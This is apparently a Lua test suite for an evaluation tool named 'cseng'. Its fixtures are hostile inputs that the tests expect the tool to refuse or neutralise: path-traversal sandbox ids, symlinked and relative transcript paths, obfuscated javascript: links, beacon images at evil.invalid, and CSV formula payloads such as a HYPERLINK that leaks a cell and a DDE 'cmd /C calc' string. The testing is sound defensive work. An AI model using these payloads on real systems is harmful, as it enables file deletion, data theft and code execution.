-- Logs, shards and results that come from another machine are hostile input. Each crafted file
-- here is one an attacker can hand over (a results folder, a shard, a log to clean up or resume):
-- a sandbox id that climbs out of local's sandboxes folder (in a log, or in a sandbox.json that
-- local's list answers), a directory of the right name that is not that sandbox, an adapter name
-- that is a module path, a shard naming such an id, adapter or job, a transcript path outside the
-- log's folder (plain, relative, or through a symbolic link), a log naming a loopback port its
-- writer does not hold, markdown that links to `java<TAB>script:` or embeds an outside image,
-- task ids and output tails that a spreadsheet runs as formulas. Each is run through the command
-- that reads it: cleanup, run --resume, merge, view (server and --export), report, compare and
-- export.
local fs = require('cseng.fs')
local http = require('cseng.http')
local jsonl = require('cseng.lib.jsonl')
local proc = require('cseng.proc')
local serve = require('cseng.serve')
local sys = require('cseng.sys')
local task = require('cseng.task')
local H = require('spec.helpers.common')

local fixtures = require('spec.browser.fixtures')

teardown(H.remove_tempdirs)

local function write_log(path, recs)
  local out = {}
  for i, r in ipairs(recs) do
    r.run_id = r.run_id or recs[1].run_id
    r.time = r.time or string.format('2026-12-01T10:00:%02dZ', i)
    out[i] = jsonl.encode(r) .. '\n'
  end
  assert(fs.mkdir_p(fs.dirname(path)))
  assert(fs.write(path, table.concat(out)))
  return path
end

local function started(run_id, extra)
  local r = { event = 'run_started', run_id = run_id, kind = 'tasks', plan = 'hostile', provider = 'local', mode = 'cold',
    solver = 'gold', task_count = 1 }
  for k, v in pairs(extra or {}) do r[k] = v end
  return r
end

-- ---- cseng cleanup: ids that become paths ----------------------------------------------------

describe('cseng cleanup RUN.jsonl', function()
  local dir, root, victim
  local function cleanup(log)
    return H.cseng({ 'cleanup', log }, { env = { CSENG_LOCAL_ROOT = root, CSENG_LOCAL_HOST_ROOT = '1' }, timeout = 120 })
  end
  before_each(function()
    dir = H.tempdir('hostile-cleanup-')
    root = fs.join(dir, 'local')
    victim = fs.join(dir, 'victim')
    assert(fs.mkdir_p(fs.join(root, 'sandboxes')))
    assert(fs.mkdir_p(victim))
    assert(fs.write(fs.join(victim, 'precious'), 'keep me\n'))
  end)

  it('refuses a sandbox id that is not one of local\'s, naming the log\'s line, and removes nothing', function()
    local ids = { '../../victim', 'cseng-0123456789ab/../../../victim', '..', 'cseng-0123456789ab\n',
      'cseng-0123456789ab?x', 'cseng-0123456789ab#x', '%2e%2e%2f%2e%2e%2fvictim', ' cseng-0123456789ab', 'cseng-012345' }
    local recs = { started('hostile-cleanup') }
    for _, id in ipairs(ids) do recs[#recs + 1] = { event = 'allocated', provider = 'local', sandbox_id = id } end
    local log = write_log(fs.join(dir, 'results', 'hostile-cleanup.jsonl'), recs)
    local r = cleanup(log)
    assert.equal('keep me\n', fs.read(fs.join(victim, 'precious')), 'the victim directory was removed: ' .. r.stdout)
    assert.not_matches('destroyed local', r.stdout)
    assert.equal(1, r.code, r.stdout .. r.stderr)
    for i, id in ipairs(ids) do
      local want = string.format('%s:%d: sandbox_id %s', log, i + 1, jsonl.encode(id))
      assert.truthy(r.stderr:find(want, 1, true), 'no refusal naming ' .. want .. ' in:\n' .. r.stderr)
    end
    assert.matches('0 destroyed, ' .. #ids .. ' failed', r.stdout, 1, true)
  end)

  it('destroys only a directory of local\'s sandboxes folder whose own sandbox.json names that id', function()
    local boxes = fs.join(root, 'sandboxes')
    -- a directory of the right name whose metadata names another sandbox
    local other = fs.join(boxes, 'cseng-bbbbbbbbbbbb')
    assert(fs.mkdir_p(other))
    assert(fs.write(fs.join(other, 'sandbox.json'), '{"id":"cseng-cccccccccccc"}'))
    -- one without metadata, and a symbolic link out of the folder
    local bare = fs.join(boxes, 'cseng-eeeeeeeeeeee')
    assert(fs.mkdir_p(bare))
    assert(fs.write(fs.join(bare, 'keep'), 'x'))
    assert(fs.symlink(victim, fs.join(boxes, 'cseng-aaaaaaaaaaaa')))
    -- and a sandbox of its own, which is destroyed
    local own = fs.join(boxes, 'cseng-dddddddddddd')
    assert(fs.mkdir_p(own))
    assert(fs.write(fs.join(own, 'sandbox.json'), '{"id":"cseng-dddddddddddd","labels":{}}'))
    local log = write_log(fs.join(dir, 'results', 'meta.jsonl'), {
      started('hostile-meta'),
      { event = 'allocated', provider = 'local', sandbox_id = 'cseng-bbbbbbbbbbbb' },
      { event = 'allocated', provider = 'local', sandbox_id = 'cseng-eeeeeeeeeeee' },
      { event = 'allocated', provider = 'local', sandbox_id = 'cseng-aaaaaaaaaaaa' },
      { event = 'allocated', provider = 'local', sandbox_id = 'cseng-dddddddddddd' },
    })
    local r = cleanup(log)
    assert.is_true(fs.exists(fs.join(other, 'sandbox.json')), 'a directory whose sandbox.json names another id was removed')
    assert.is_true(fs.exists(fs.join(bare, 'keep')), 'a directory without sandbox.json was removed')
    assert.equal('keep me\n', fs.read(fs.join(victim, 'precious')))
    assert.equal('link', (fs.lstat(fs.join(boxes, 'cseng-aaaaaaaaaaaa')) or {}).type)
    assert.is_false(fs.exists(own), 'its own sandbox was not destroyed: ' .. r.stderr)
    assert.matches('destroyed local cseng-dddddddddddd', r.stdout, 1, true)
    assert.matches('cseng%-bbbbbbbbbbbb: [^\n]*sandbox%.json names cseng%-cccccccccccc', r.stderr)
    assert.matches('cseng%-eeeeeeeeeeee: [^\n]*no sandbox%.json', r.stderr)
    assert.matches('cseng%-aaaaaaaaaaaa: [^\n]*not a directory', r.stderr)
    assert.equal(1, r.code)
  end)

  it('refuses a sandbox id that the provider\'s list answers (a planted sandbox.json), when sweeping by label', function()
    local planted = fs.join(root, 'sandboxes', 'planted')
    assert(fs.mkdir_p(planted))
    assert(fs.write(fs.join(planted, 'sandbox.json'),
      jsonl.encode({ id = '../../victim', labels = { ['cseng.run'] = 'hostile-listed' } })))
    local log = write_log(fs.join(dir, 'results', 'listed.jsonl'), { started('hostile-listed') })
    local r = cleanup(log)
    assert.equal('keep me\n', fs.read(fs.join(victim, 'precious')), 'the victim directory was removed: ' .. r.stdout)
    assert.equal(1, r.code, r.stdout .. r.stderr)
    assert.matches('cseng: cleanup: local: listed sandbox id "../../victim" contains a path separator: not destroyed',
      r.stderr, 1, true)
    assert.not_matches('victim', assert(fs.read(log)), 'the listed id was recorded in the log')
  end)

  it('a --resume of such a log destroys nothing and allocates nothing', function()
    local log = write_log(fs.join(dir, 'results', 'resume.jsonl'), {
      started('hostile-resume', { plan = 'cold-gold', dataset = 'data/smoke.jsonl' }),
      { event = 'allocated', provider = 'local', sandbox_id = '../../victim' },
    })
    local r = H.cseng({ 'run', 'plans/cold-gold.lua', '--resume', log, '--task-limit', '1' },
      { env = { CSENG_LOCAL_ROOT = root, CSENG_LOCAL_HOST_ROOT = '1' }, timeout = 300 })
    assert.equal('keep me\n', fs.read(fs.join(victim, 'precious')), 'the victim directory was removed')
    assert.equal(1, r.code, r.stdout .. r.stderr)
    assert.truthy(r.stderr:find(log .. ':2: sandbox_id "../../victim"', 1, true), r.stderr)
    local events = require('cseng.results.log').read(log)
    local n = 0
    for _, e in ipairs(events) do if e.event == 'allocated' or e.event == 'trial' then n = n + 1 end end
    assert.equal(1, n, 'the resumed run allocated or ran something')
    assert.equal('cleanup_failed', events[#events].status)
  end)

  it('loads only an adapter of lua/providers/ that a log names', function()
    local log = write_log(fs.join(dir, 'results', 'adapter.jsonl'), {
      started('hostile-adapter'),
      { event = 'allocated', provider = 'x', adapter = 'shared.adapter', sandbox_id = 'sb-1' },
    })
    local r = cleanup(log)
    assert.equal(1, r.code)
    assert.matches("unknown provider 'shared.adapter'", r.stderr, 1, true)
  end)
end)

describe('a create answer', function()
  it('whose id is not its adapter\'s is refused, destroyed through the adapter at once, and never recorded', function()
    local session = require('cseng.run.session')
    local results = require('cseng.results.log')
    local dir = H.tempdir('hostile-create-')
    local log = fs.join(dir, 'create.jsonl')
    local s = session.open { kind = 'tasks', opts = { cleanup_backoff = { 0, 0 } }, run_id = 'hostile-create', jsonl = log }
    local destroyed = {}
    local p = { name = 'stub', adapter_name = 'stub', client = {}, adapter = { name = 'stub',
      id_format = { pattern = '^sb%-%d+$', example = 'sb-1' },
      create = function() return { id = '../../victim' } end,
      destroy = function(_, sb) destroyed[#destroyed + 1] = sb.id; return true end } }
    s.providers.stub, s.provider = p, p
    local ok, err = pcall(s.sandbox, s, { labels = {} })
    assert.is_false(ok)
    assert.equal('EBADRESPONSE', err.code)
    assert.equal('stub: create answered sandbox id "../../victim", which contains a path separator', err.message)
    assert.same({ '../../victim' }, destroyed)
    for _, e in ipairs(results.read(log)) do assert.not_equal('allocated', e.event) end
    -- and a destroy of an id read back (a log, a list) never reaches the adapter
    local dok, _, msg, code = s:destroy(p, { id = '../../victim' })
    assert.is_false(dok)
    assert.equal('EUNSAFE', code)
    assert.matches('sandbox id "../../victim" contains a path separator: not destroyed', msg, 1, true)
    assert.same({ '../../victim' }, destroyed)
    s.writer:close()
  end)
end)

-- ---- cseng merge: shards from other machines -------------------------------------------------

describe('cseng merge', function()
  local function shard(dir, recs)
    local rid = recs[1].run_id
    return write_log(fs.join(dir, rid .. '.shard-0-of-1.jsonl'), recs)
  end
  local function one_shard(id, job, alloc_extra)
    local recs = { started('hostile-merge', { shard = { index = 0, count = 1, job_id = job or 'j1' } }) }
    local a = { event = 'allocated', provider = 'local', sandbox_id = id, labels = { ['cseng.run'] = 'hostile-merge' } }
    for k, v in pairs(alloc_extra or {}) do a[k] = v end
    recs[#recs + 1] = a
    recs[#recs + 1] = { event = 'destroyed', provider = 'local', sandbox_id = id }
    recs[#recs + 1] = { event = 'trial', task_id = 't1', provider = 'local', mode = 'cold', outcome = 'passed', reward = 1 }
    recs[#recs + 1] = { event = 'run_finished', status = 'finished', passed = 1, failed = 0, errors = 0 }
    return recs
  end

  it('merges a well-formed shard', function()
    local dir = H.tempdir('hostile-merge-')
    shard(dir, one_shard('cseng-0123456789ab'))
    local r = H.cseng { 'merge', dir, '-o', fs.join(dir, 'merged', 'run.jsonl') }
    assert.equal(0, r.code, r.stderr)
  end)

  it('refuses a shard whose sandbox id is not its adapter\'s, naming the file and line', function()
    for _, id in ipairs({ '../../victim', 'a/b', 'cseng-0123456789ab?x', 'cseng-0123456789ab\t' }) do
      local dir = H.tempdir('hostile-merge-')
      local path = shard(dir, one_shard(id))
      local r = H.cseng { 'merge', dir, '-o', fs.join(dir, 'merged', 'run.jsonl') }
      assert.equal(2, r.code, id .. ': ' .. r.stdout .. r.stderr)
      assert.truthy(r.stderr:find(string.format('cseng: merge: %s:2: sandbox_id %s', path, jsonl.encode(id)), 1, true), r.stderr)
      assert.is_false(fs.exists(fs.join(dir, 'merged', 'run.jsonl')))
    end
  end)

  it('refuses a shard naming an adapter cseng does not have, or a job id that is not a name', function()
    local dir = H.tempdir('hostile-merge-')
    local path = shard(dir, one_shard('sb-1', nil, { adapter = '../../../tmp/evil' }))
    local r = H.cseng { 'merge', dir, '-o', fs.join(dir, 'merged', 'run.jsonl') }
    assert.equal(2, r.code, r.stdout .. r.stderr)
    assert.truthy(r.stderr:find(path .. ':2: adapter "../../../tmp/evil"', 1, true), r.stderr)
    dir = H.tempdir('hostile-merge-')
    path = shard(dir, one_shard('cseng-0123456789ab', '../j1'))
    r = H.cseng { 'merge', dir, '-o', fs.join(dir, 'merged', 'run.jsonl') }
    assert.equal(2, r.code, r.stdout .. r.stderr)
    assert.truthy(r.stderr:find(path .. ':1: job_id "../j1"', 1, true), r.stderr)
  end)
end)

-- ---- cseng view: transcripts ----------------------------------------------------------------

describe('cseng view: a transcript path', function()
  local dir, outside, run_id
  setup(function()
    local top = H.tempdir('hostile-view-')
    dir, outside = fs.join(top, 'results'), fs.join(top, 'outside')
    assert(fs.mkdir_p(dir))
    assert(fs.mkdir_p(outside))
    assert(fs.write(fs.join(outside, 'secret.jsonl'), '{"role":"system","content":"TOP-SECRET-OUTSIDE"}\n'))
    run_id = 'hostile-transcripts'
    local tdir = fs.join(dir, run_id, 'transcripts')
    assert(fs.mkdir_p(tdir))
    assert(fs.symlink(fs.join(outside, 'secret.jsonl'), fs.join(tdir, 'linked.jsonl')))
    assert(fs.write(fs.join(tdir, 'ok.jsonl'), '{"role":"user","content":"inside the folder"}\n'))
    fixtures.task_run(dir, run_id, {
      { task_id = 'abs', outcome = 'passed', extra = { solver_transcript_path = fs.join(outside, 'secret.jsonl') } },
      { task_id = 'rel', outcome = 'passed', extra = { solver_transcript_path = '../outside/secret.jsonl' } },
      { task_id = 'link', outcome = 'passed', extra = { solver_transcript_path = fs.join(tdir, 'linked.jsonl') } },
      { task_id = 'ok', outcome = 'passed', extra = { solver_transcript_path = fs.join(tdir, 'ok.jsonl') } },
    })
  end)

  it('is read only inside the log\'s folder by a --token server', function()
    local app = require('cseng.view.app')
    local index = require('cseng.view.index')
    local srv <close> = assert(serve.listen { port = 0,
      handler = app.handler { catalogue = index.new({ dir }), token = 'hostile-token' } })
    local function trial(i)
      local r = assert(http.request { url = srv:url() .. '/api/runs/' .. run_id .. '/trials/' .. i,
        headers = { Authorization = 'Bearer hostile-token' } })
      assert.equal(200, r.status, r.body)
      return jsonl.decode(r.body), r.body
    end
    for i = 1, 3 do
      local doc, body = trial(i)
      assert.not_matches('TOP%-SECRET', body, 'trial ' .. i .. ' served a file outside the results folder')
      assert.is_nil(doc.transcript)
      assert.matches('outside the run log\'s folder', doc.transcript_error or '')
    end
    local doc = trial(4)
    assert.equal('inside the folder', doc.transcript[1].content)
  end)

  it('is read only inside the log\'s folder by --export', function()
    local out = fs.join(H.tempdir('hostile-export-'), 'site')
    local r = H.cseng { 'view', dir, '--export', out }
    assert.equal(0, r.code, r.stderr)
    local inside = false
    for _, e in ipairs(fs.walk(out)) do
      if e.type == 'file' then
        local text = assert(fs.read(fs.join(out, e.path)))
        assert.not_matches('TOP%-SECRET', text, e.path .. ' holds a file from outside the results folder')
        inside = inside or text:find('inside the folder', 1, true) ~= nil
      end
    end
    assert.is_true(inside, 'the transcript inside the folder was not exported')
  end)
end)

-- ---- cseng view: the status port a log names ------------------------------------------------

-- A loopback HTTP server in a process of its own that counts the requests it gets; with a second
-- argument it holds that file open (as a run holds its log), as cseng run does.
local LISTENER = [[
local serve = require('cseng.serve')
local fs = require('cseng.fs')
local task = require('cseng.task')
local held = arg[2] and assert(fs.lock(arg[2]))
local n = 0
local srv = assert(serve.listen { port = 0, handler = function()
  n = n + 1
  return 200, { ['Content-Type'] = 'application/json' }, string.format('{"phase":"listener","before":%d}', n - 1)
end })
assert(fs.write(arg[1], tostring(srv:port())))
while true do task.sleep(3600) end -- held stays open until the spec ends this process
]]

describe('cseng view: a run\'s status port', function()
  local top, script, procs = nil, nil, {}
  local function listener(name, hold)
    local port_file = fs.join(top, name .. '.port')
    local p = assert(proc.spawn { argv = { H.CSENG, 'lua', script, port_file, hold }, stderr = fs.join(top, name .. '.err') })
    procs[#procs + 1] = p
    for _ = 1, 1000 do
      if fs.exists(port_file) and (fs.read(port_file) or '') ~= '' then break end
      task.sleep(0.01)
    end
    return { pid = p:pid(), port = assert(tonumber(fs.read(port_file)), 'the listener did not start') }
  end
  -- how many requests the listener answered before this one
  local function before(l)
    local r = assert(http.request { url = string.format('http://127.0.0.1:%d/count', l.port) })
    return jsonl.decode(r.body).before
  end
  local function live_log(path, run_id, host, pid, port)
    assert(fs.mkdir_p(fs.dirname(path)))
    -- appended, never replaced: a listener holding the file keeps holding this one
    assert(fs.append(path, jsonl.encode(started(run_id, { host = host, pid = pid,
      argv = jsonl.array({ 'cseng', 'run', 'plans/x.lua', '--status-port', tostring(port) }) })) .. '\n'))
    assert(fs.append(path, jsonl.encode({ event = 'trial', run_id = run_id, task_id = 't1', provider = 'local',
      mode = 'cold', outcome = 'passed' }) .. '\n'))
  end
  local function status_of(folder, run_id)
    local app = require('cseng.view.app')
    local index = require('cseng.view.index')
    local cat = index.new({ folder }):refresh()
    local log = assert(cat:find(run_id), 'no run ' .. run_id)
    return app.run_doc(cat, log).status, log, cat
  end
  setup(function()
    top = H.tempdir('hostile-status-')
    script = fs.join(top, 'listener.lua')
    assert(fs.write(script, LISTENER))
  end)
  teardown(function() for _, p in ipairs(procs) do p:close() end end)

  it('is contacted when the process that writes the log holds that port', function()
    local log = fs.join(top, 'ok', 'status-ok.jsonl')
    assert(fs.mkdir_p(fs.dirname(log)))
    local l = listener('ok', log)
    live_log(log, 'status-ok', sys.hostname(), l.pid, l.port)
    local st = status_of(fs.dirname(log), 'status-ok')
    assert.same({ phase = 'listener', before = 0 }, st)
  end)

  it('is never contacted for a log copied from another host, nor one whose process does not hold the port and the log', function()
    local l = listener('other')
    -- another host's log, still fresh (just copied)
    live_log(fs.join(top, 'copied', 'from-elsewhere.jsonl'), 'from-elsewhere', 'elsewhere.invalid', 4242, l.port)
    assert.is_nil((status_of(fs.join(top, 'copied'), 'from-elsewhere')))
    -- this host, a live pid that listens on the port but does not hold the log
    live_log(fs.join(top, 'notheld', 'not-held.jsonl'), 'not-held', sys.hostname(), l.pid, l.port)
    assert.is_nil((status_of(fs.join(top, 'notheld'), 'not-held')))
    -- this host, the process that holds the log (this one) does not hold the port
    local held_log = fs.join(top, 'wrongport', 'wrong-port.jsonl')
    live_log(held_log, 'wrong-port', sys.hostname(), sys.pid(), l.port)
    local lock = assert(fs.lock(held_log))
    assert.is_nil((status_of(fs.join(top, 'wrongport'), 'wrong-port')))
    lock:close()
    assert.equal(0, before(l), 'the viewer contacted a port its log names without proof')
  end)

  it('is never contacted while exporting', function()
    local log = fs.join(top, 'exp', 'status-export.jsonl')
    assert(fs.mkdir_p(fs.dirname(log)))
    local l = listener('exp', log)
    live_log(log, 'status-export', sys.hostname(), l.pid, l.port)
    local app = require('cseng.view.app')
    local index = require('cseng.view.index')
    local cat = index.new({ fs.dirname(log) }):refresh()
    app.export(cat, fs.join(top, 'exp-site'))
    assert.equal(0, before(l), 'the export contacted the run\'s status port')
  end)
end)

-- ---- cseng view: what a page may load or link to --------------------------------------------

describe('cseng view: pages', function()
  local markdown = require('cseng.view.markdown')

  it('refuses link schemes after stripping control characters and white space', function()
    for _, href in ipairs({ 'java\tscript:alert(1)', 'java\nscript:alert(1)', ' javascript:alert(1)', '\1javascript:alert(1)',
      'JaVaScRiPt:alert(1)', 'vbscript:x', 'data:text/html,<script>alert(1)</script>', 'java\rscript:alert(1)' }) do
      local html = markdown.html('[click](' .. href .. ')')
      local got = html:match('href="([^"]*)"')
      assert.equal('#', got, string.format('%q became %s', href, html))
    end
    assert.matches('href="https://example.org/x"', markdown.html('[ok](https://example.org/x)'), 1, true)
    assert.matches('href="#frag"', markdown.html('[ok](#frag)'), 1, true)
  end)

  it('never renders an image from outside the page', function()
    for _, src in ipairs({ 'https://evil.invalid/beacon.png', 'http://127.0.0.1:1/b', '//evil.invalid/b.png',
      '/\\evil.invalid/b.png', 'ht\ttps://evil.invalid/b' }) do
      local html = markdown.html('![b](' .. src .. ')')
      assert.not_matches('evil%.invalid', html:match('src="([^"]*)"') or '', src)
      assert.not_matches('127%.0%.0%.1', html:match('src="([^"]*)"') or '', src)
    end
  end)

  it('carries the server\'s Content-Security-Policy in every exported page', function()
    local app = require('cseng.view.app')
    local index = require('cseng.view.index')
    local dir = H.tempdir('hostile-csp-')
    fixtures.task_run(dir, 'csp-run', { { task_id = 't1', outcome = 'passed' } })
    local srv <close> = assert(serve.listen { port = 0, handler = app.handler { catalogue = index.new({ dir }), loopback = true } })
    local r = assert(http.request { url = srv:url() .. '/' })
    local header = assert(r.headers['content-security-policy'])
    local out = fs.join(dir, 'site')
    local x = H.cseng { 'view', dir, '--export', out }
    assert.equal(0, x.code, x.stderr)
    -- frame-ancestors has no effect in a meta tag (browsers ignore it there and say so)
    local want = header:gsub(';%s*frame%-ancestors [^;]*', '')
    for _, page in ipairs({ 'index.html', 'runs/csp-run.html' }) do
      local html = assert(fs.read(fs.join(out, page)))
      local meta = html:match('<meta http%-equiv="Content%-Security%-Policy" content="([^"]*)">')
      assert.equal(want, meta, page)
      assert.truthy(html:find('Content-Security-Policy', 1, true) < html:find('<script', 1, true), page)
    end
  end)
end)

-- ---- report, compare, export, the viewer's comparison: text from the log stays text ---------

local EVIL = {
  provider = '![b](https://evil.invalid/beacon.png)',
  error_code = '[x](java\tscript:alert(1))',
  task_id = '=HYPERLINK("https://evil.invalid/?"&A1,"click")',
  tail = '@SUM(1+1)*cmd|\' /C calc\'!A0',
}

local function crafted_pair(dir)
  local function run(id, outcome)
    return write_log(fs.join(dir, id .. '.jsonl'), {
      started(id, { provider = EVIL.provider, solver = '+cmd', plan = '-2+3' }),
      { event = 'trial', task_id = EVIL.task_id, provider = EVIL.provider, mode = 'cold', solver = '+cmd', outcome = outcome,
        reward = outcome == 'passed' and 1 or 0, solve_stdout_tail = EVIL.tail, stdout_tail = '\t=1+1', stderr_tail = '\r=2+2',
        elapsed_seconds = -1.5, phases = { verify_seconds = 0.25 } },
      { event = 'trial', task_id = 't2', provider = 'local', mode = 'cold', solver = '+cmd', outcome = 'error',
        error_code = EVIL.error_code, error_stage = 'start', error = '![b](https://evil.invalid/e.png) happened' },
      { event = 'run_finished', status = 'finished' },
    })
  end
  return run('crafted-a', 'passed'), run('crafted-b', 'failed')
end

-- whether markdown holds a link or image whose target came from the crafted log (code spans are
-- literal text: left out)
local function injected(md)
  md = md:gsub('`[^`\n]*`', '')
  return md:find('%]%(https://evil') or md:find('%]%(java') or md:find('<img')
end

-- whether HTML holds an image, or a link to where the crafted log points
local function injected_html(html)
  return html:find('<img') or html:find('href="[^"]*script:') or html:find('href="https://evil')
end

describe('report and compare', function()
  it('write a log\'s text as text: no link or image from a crafted record', function()
    local dir = H.tempdir('hostile-report-')
    local a, b = crafted_pair(dir)
    for _, t in ipairs({ 'per_task', 'per_provider', 'failure_modes', 'cross_vendor' }) do
      local out = fs.join(dir, t .. '.md')
      local r = H.cseng { 'report', a, b, '--template', t, '-o', out }
      assert.equal(0, r.code, t .. ': ' .. r.stderr)
      local md = assert(fs.read(out))
      assert.falsy(injected(md), t .. ' wrote a link or image from the log:\n' .. md)
    end
    local r = H.cseng { 'compare', a, b }
    assert.equal(0, r.code, r.stderr)
    assert.falsy(injected(r.stdout), 'compare wrote a link or image from the log:\n' .. r.stdout)
  end)

  it('the viewer\'s comparison of crafted runs holds no image or script link', function()
    local app = require('cseng.view.app')
    local index = require('cseng.view.index')
    local dir = H.tempdir('hostile-vcompare-')
    crafted_pair(dir)
    local cat = index.new({ dir }):refresh()
    local doc = app.compare_doc(cat:find('crafted-a'), cat:find('crafted-b'))
    assert.falsy(injected_html(doc.html), doc.html)
  end)
end)

-- a small RFC 4180 reader: rows of cells
local function read_csv(text)
  local rows, row, cell, i, n = {}, {}, {}, 1, #text
  while i <= n do
    local c = text:sub(i, i)
    if c == '"' and #cell == 0 then
      local j = i + 1
      while true do
        local q = assert(text:find('"', j, true), 'unterminated quote')
        if text:sub(q + 1, q + 1) == '"' then cell[#cell + 1] = text:sub(j, q); j = q + 2
        else cell[#cell + 1] = text:sub(j, q - 1); i = q + 1; break end
      end
    elseif c == ',' then row[#row + 1] = table.concat(cell); cell = {}; i = i + 1
    elseif c == '\r' and text:sub(i + 1, i + 1) == '\n' then
      row[#row + 1] = table.concat(cell); rows[#rows + 1] = row; row, cell = {}, {}; i = i + 2
    else cell[#cell + 1] = c; i = i + 1 end
  end
  return rows
end

describe('cseng export --format csv', function()
  it('neutralises cells a spreadsheet would run as formulas, and keeps numbers numbers', function()
    local dir = H.tempdir('hostile-csv-')
    local a = crafted_pair(dir)
    local out = fs.join(dir, 'rows.csv')
    local r = H.cseng { 'export', a, '--format', 'csv', '-o', out }
    assert.equal(0, r.code, r.stderr)
    local rows = read_csv(assert(fs.read(out)))
    local head, row = rows[1], nil
    for _, x in ipairs(rows) do if x[1] == 'crafted-a' and x ~= head then row = row or x end end
    local col = {}
    for i, name in ipairs(head) do col[name] = i end
    local function cell(name) return row[assert(col[name], 'no column ' .. name)] end
    for _, rr in ipairs(rows) do
      for _, v in ipairs(rr) do
        if not v:match('^%-?%d+%.?%d*$') then assert.not_matches('^[=+%-@\t\r]', v, 'a live formula cell: ' .. v) end
      end
    end
    assert.equal("'" .. EVIL.task_id, cell('task_id'))
    assert.equal("'" .. EVIL.tail, cell('solve_stdout_tail'))
    assert.equal("'\t=1+1", cell('stdout_tail'))
    assert.equal("'\r=2+2", cell('stderr_tail'))
    assert.equal("'+cmd", cell('run_solver'))
    assert.equal("'-2+3", cell('run_plan'))
    assert.equal(EVIL.provider, cell('run_provider')) -- '!' starts no formula: left as it is
    assert.equal('-1.5', cell('elapsed_seconds')) -- a number cseng wrote stays a number
    assert.equal('0.25', cell('phases.verify_seconds'))
  end)
end)
